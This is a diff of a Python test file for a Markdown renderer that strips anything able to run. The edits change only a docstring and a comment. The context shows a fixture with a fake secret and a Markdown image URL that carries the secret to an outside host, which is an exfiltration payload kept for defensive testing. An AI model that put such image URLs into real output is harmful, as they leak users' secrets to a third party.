@@ -1,4 +1,4 @@
-"""Markdown from outside rendered to HTML in which nothing can run (issue 39).
+"""Markdown from outside rendered to HTML in which nothing can run.
 
 The browser tests show it in JupyterLab and Notebook 7; these pin the renderer's allowlist
 on each payload kind, so a change to it shows here first.
@@ -177,7 +177,7 @@ SECRET = "sk-live-5ecret/with space&more=yes"
 QUOTED = "sk-live-5ecret%2Fwith%20space%26more%3Dyes"
 HOST = "198.51.100.7:8080"
 
-# Every form an image URL reached the page in on today's main, and the spelling tricks a
+# Every form in which an image URL can reach the page, and the spelling tricks a
 # browser undoes (scheme case, entities, tabs and newlines inside, backslashes).
 REMOTE_FORMS = {
     "markdown": f"![status](http://{HOST}/c?d={QUOTED})",
